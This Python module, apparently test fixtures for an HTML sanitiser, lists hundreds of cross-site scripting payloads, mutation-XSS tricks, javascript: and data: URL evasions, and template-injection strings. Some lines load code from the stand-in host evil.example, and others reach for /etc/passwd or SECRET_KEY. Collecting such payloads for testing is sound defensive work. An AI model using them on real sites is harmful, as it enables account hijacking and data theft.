"""What an attacker types where words are asked for: each line would run `xss()` in a page that
trusted it. `xss` and `https://evil.example` mark what got through."""

from __future__ import annotations


def lines(text: str) -> list[str]:
    return [line for line in text.strip("\n").split("\n") if line]


ELEMENTS = lines("""
<script>xss()</script>
<ScRiPt>xss()</sCrIpT>
<script src=https://evil.example/x.js></script>
<script/src=//evil.example/x.js></script>
<script\x0bsrc=//evil.example/x.js></script>
<script type=module>xss()</script>
<script>xss()//
<scr<script>ipt>xss()</scr</script>ipt>
<<script>xss();//<</script>
</script><script>xss()</script>
<img src=x onerror=xss()>
<img src=x onerror="xss()">
<img src=x onerror='xss()'
<img/src/onerror=xss()>
<img src=x:x onerror\t=\txss()>
<img src=x onerror=&#120;ss()>
<IMG SRC="jav&#x0A;ascript:xss();">
<img srcset="x 1x" onerror=xss()>
<image src=x onerror=xss()>
<body onload=xss()>
<body onpageshow=xss()>
<iframe src=javascript:xss()></iframe>
<iframe srcdoc="<script>parent.xss()</script>"></iframe>
<iframe srcdoc="&lt;script&gt;parent.xss()&lt;/script&gt;">
<object data=javascript:xss()></object>
<object data="data:text/html,<script>xss()</script>">
<embed src=javascript:xss()>
<embed code=https://evil.example/x.swf>
<applet code=evil></applet>
<video onloadstart=xss()><source></video>
<video src=x onerror=xss()></video>
<video poster=javascript:xss()>
<audio src=x onerror=xss()>
<source onerror=xss()>
<track default onload=xss()>
<input autofocus onfocus=xss()>
<input type=image src=x onerror=xss()>
<select autofocus onfocus=xss()>
<textarea autofocus onfocus=xss()>
<keygen autofocus onfocus=xss()>
<button formaction=javascript:xss() type=submit>x</button>
<form action=javascript:xss()><input type=submit></form>
<form id=f><button form=f formaction=https://evil.example>
<isindex action=javascript:xss() type=image>
<details open ontoggle=xss()><summary>x</summary></details>
<dialog open onclose=xss()><form method=dialog>
<marquee onstart=xss()>x</marquee>
<meter onmouseover=xss()>0</meter>
<a onmouseover=xss() href=#>x</a>
<a href=javascript:xss()>x</a>
<a href="https://evil.example" ping="https://evil.example">x</a>
<area href=javascript:xss()><map name=m>
<base href=https://evil.example/>
<link rel=stylesheet href=https://evil.example/x.css>
<link rel=prefetch href=https://evil.example/>
<meta http-equiv=refresh content="0;url=javascript:xss()">
<meta http-equiv=Content-Security-Policy content="script-src *">
<style>@import 'https://evil.example/x.css';</style>
<style>*{background:url(https://evil.example/)}</style>
<style>@keyframes a{}</style><b style="animation-name:a" onanimationstart=xss()>
<div style="background:url(javascript:xss())">
<div style="width:expression(xss())">
<div style="position:fixed;inset:0" onpointerover=xss()>x</div>
<b onauxclick=xss() contenteditable autofocus onfocus=xss()>x</b>
<p hidden=until-found onbeforematch=xss()>x</p>
<b popover id=p onbeforetoggle=xss()>x</b><button popovertarget=p>
<template><script>xss()</script></template>
<template shadowrootmode=open><script>xss()</script></template>
<slot onslotchange=xss()><b></b></slot>
<x-card onclick=xss() tabindex=1 id=x>
<chat-log data-stream="room:EVIL"></chat-log>
<cafe-scene onanimationend=xss()></cafe-scene>
<frameset onload=xss()><frame src=javascript:xss()>
<xml src=https://evil.example/x></xml>
<portal src=javascript:xss()>
<fencedframe src=javascript:xss()>
""")

#: Read one way by a sanitiser, another way by the browser that gets its output.
MUTATIONS = lines("""
<noscript><p title="</noscript><img src=x onerror=xss()>">
<noembed><p title="</noembed><img src=x onerror=xss()>">
<noframes><p title="</noframes><img src=x onerror=xss()>">
<title><p title="</title><img src=x onerror=xss()>">
<textarea><p title="</textarea><img src=x onerror=xss()>">
<style><p title="</style><img src=x onerror=xss()>">
<xmp><p title="</xmp><img src=x onerror=xss()>">
<iframe><p title="</iframe><img src=x onerror=xss()>">
<plaintext><p title="<img src=x onerror=xss()>">
<!--><img src=x onerror=xss()>-->
<!--!><img src=x onerror=xss()>
<!---!><img src=x onerror=xss()>
<!-- --!><img src=x onerror=xss()>-->
<!-<img src=x onerror=xss()>
<?xml version="1.0"><img src=x onerror=xss()>?>
<![CDATA[<img src=x onerror=xss()>]]>
<!DOCTYPE x [<!ENTITY y "<img src=x onerror=xss()>">]>&y;
</><img src=x onerror=xss()>
</ <img src=x onerror=xss()>>
<table><a href=#><td><img src=x onerror=xss()></a>
<table><caption><svg><style><img src=x onerror=xss()></caption>
<a><form><a><form></form><img src=x onerror=xss()>
<form><div></form><form><style></div><img src=x onerror=xss()>
<b><p></b><svg><style><p title="</style><img src=x onerror=xss()>">
<listing>&lt;img src=x onerror=xss()&gt;</listing>
<pre>&lt;img src=x onerror=xss()&gt;</pre>
<select><template><img src=x onerror=xss()></template></select>
<select><option><svg><script>xss()</script></option></select>
<button><button><img src=x onerror=xss()></button></button>
<nobr><nobr><img src=x onerror=xss()>
<p><table><p><img src=x onerror=xss()></table>
<dl><dt><dd><img src=x onerror=xss()></dl>
""")

#: HTML that is no HTML, inside what is no HTML.
NAMESPACES = lines("""
<svg onload=xss()>
<svg/onload=xss()>
<svg><script>xss()</script></svg>
<svg><script>&#120;ss()</script></svg>
<svg><script href=https://evil.example/x.js /></svg>
<svg><script xlink:href=data:,xss()></script></svg>
<svg><a xlink:href=javascript:xss()><text>x</text></a></svg>
<svg><a><animate attributeName=href values=javascript:xss() /><text>x</text></a></svg>
<svg><set attributeName=onmouseover to=xss() /></svg>
<svg><animate onbegin=xss() attributeName=x dur=1s>
<svg><animatetransform onbegin=xss()>
<svg><use href="data:image/svg+xml,<svg id=x onload=xss()>#x"></use></svg>
<svg><image href=x onerror=xss()></svg>
<svg><foreignObject><img src=x onerror=xss()></foreignObject></svg>
<svg><foreignObject><iframe srcdoc="<script>parent.xss()</script>"></foreignObject></svg>
<svg><desc><img src=x onerror=xss()></desc></svg>
<svg><title><style><img src=x onerror=xss()></title></svg>
<svg><style><img src=x onerror=xss()></style></svg>
<svg><style>&lt;img src=x onerror=xss()&gt;</style></svg>
<svg></p><style><a id="</style><img src=x onerror=xss()>">
<svg><p><style><g title="</style><img src=x onerror=xss()>">
<svg><b><style></b><img src=x onerror=xss()></style></svg>
<svg><![CDATA[><img src=x onerror=xss()>]]></svg>
<svg><handler type=text/javascript>xss()</handler></svg>
<svg><filter><feImage href=https://evil.example/x.svg /></filter></svg>
<math><mi xlink:href=javascript:xss()>x</mi></math>
<math href=javascript:xss()>x</math>
<math><maction actiontype=statusline xlink:href=javascript:xss()>x</maction></math>
<math><mtext></form><form><mglyph><style></math><img src=x onerror=xss()>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=xss()&gt;">
<math><mtext><table><mglyph><style><math><img src=x onerror=xss()></style>
<math><mi><table><mglyph><svg><style></style><img src=x onerror=xss()>
<math><annotation-xml encoding="text/html"><img src=x onerror=xss()></annotation-xml></math>
<math><annotation-xml encoding="application/xhtml+xml"><script>xss()</script></annotation-xml>
<math><annotation-xml><svg><foreignObject><img src=x onerror=xss()></annotation-xml></math>
<math><mtext><img src=x onerror=xss()></mtext></math>
<math><ms lquote="<img src=x onerror=xss()>">x</ms></math>
<math><style><img src=x onerror=xss()></style></math>
<math><mi//xlink:href="data:x,<script>xss()</script>">
<math><msrow><mn><script>xss()</script></mn></math>
""")

ADDRESSES = lines("""
javascript:xss()
JaVaScRiPt:xss()
javascript&colon;xss()
javascript&#58;xss()
javascript&#0000058xss()
&#106;avascript:xss()
&#x6A;&#x61;vascript:xss()
java\tscript:xss()
java&#9;script:xss()
java&NewLine;script:xss()
\x01javascript:xss()
\u00a0javascript:xss()
\ufeffjavascript:xss()
javascript\u200b:xss()
javascript://%0axss()
javascript://evil.example/%0Axss()
javascript:%78ss()
view-source:javascript:xss()
feed:javascript:xss()
jar:javascript:xss()
vbscript:xss()
livescript:xss()
mocha:xss()
data:text/html,<script>xss()</script>
data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==
data:image/svg+xml,<svg onload=xss()>
data:,xss()
DATA:text/html,<script>xss()</script>
blob:https://evil.example/x
file:///etc/passwd
filesystem:https://evil.example/x
//evil.example
\\\\evil.example
https:evil.example
""")

BREAKOUTS = lines("""
"><script>xss()</script>
'><script>xss()</script>
"><img src=x onerror=xss()>
'><img src=x onerror=xss()>
` onmouseover=xss() `
" onmouseover="xss()
' onmouseover='xss()
" autofocus onfocus=xss() x="
" style="animation-name:x" onanimationstart="xss()
" srcdoc="<script>parent.xss()</script>
"/><svg/onload=xss()>
"></a><script>xss()</script>
--><script>xss()</script>
]]><script>xss()</script>
*/xss()/*
';xss();//
";xss();//
\\";xss();//
</title><script>xss()</script>
</textarea><script>xss()</script>
</style><script>xss()</script>
</template><img src=x onerror=xss()>
</script><img src=x onerror=xss()>
</option></select><img src=x onerror=xss()>
&quot;&gt;&lt;script&gt;xss()&lt;/script&gt;
&#34;&#62;&#60;script&#62;xss()&#60;/script&#62;
&amp;lt;script&amp;gt;xss()&amp;lt;/script&amp;gt;
%3Cscript%3Exss()%3C/script%3E
%22%3E%3Cscript%3Exss()%3C/script%3E
\\u003cscript\\u003exss()\\u003c/script\\u003e
\\x3cscript\\x3exss()\\x3c/script\\x3e
""")

#: For whoever evaluates words as a template.
TEMPLATES = lines("""
{{ request.user.password }}
{{7*7}}{{constructor.constructor('xss()')()}}
{% load static %}{% include "admin/base.html" %}
{% debug %}
{# comment #}{{ settings.SECRET_KEY }}
${xss()}
#{xss()}
<%= xss() %>
[[${xss()}]]
%(name)s %s %d {0} {name}
{{_self.env.registerUndefinedFilterCallback("xss")}}
$(xss) `xss` $((1))
""")

#: Letters that fold, vanish, turn around or look like others.
LETTERS = lines(
    """
\uff1cscript\uff1exss()\uff1c/script\uff1e
\u2039script\u203axss()\u2039/script\u203a
\u02c2img src=x onerror=xss()\u02c3
<\u0000script>xss()</script>
<scr\u0000ipt>xss()</script>
<img src=x oner\u200bror=xss()>
<\u017fcript>xss()</\u017fcript>
<\u0130mg src=x onerror=xss()>
<img\u2028src=x\u2028onerror=xss()>
<img\u3000src=x\u3000onerror=xss()>
<img\x0csrc=x\x0conerror=xss()>
\u202e<script>xss()</script>
\u2066<img src=x onerror=xss()>\u2069
+ADw-script+AD4-xss()+ADw-/script+AD4-
\u00bcscript\u00bexss()\u00bc/script\u00be
\U000e003cscript\U000e003exss()
\ud83d\udc4b
<a\u0300 href=javascript:xss()>x</a\u0300>
\u2028xss()//
""".replace("\ud83d\udc4b", "\U0001f44b<img src=x onerror=xss()>")
)

PLAIN = ELEMENTS + MUTATIONS + NAMESPACES + ADDRESSES + BREAKOUTS + TEMPLATES + LETTERS
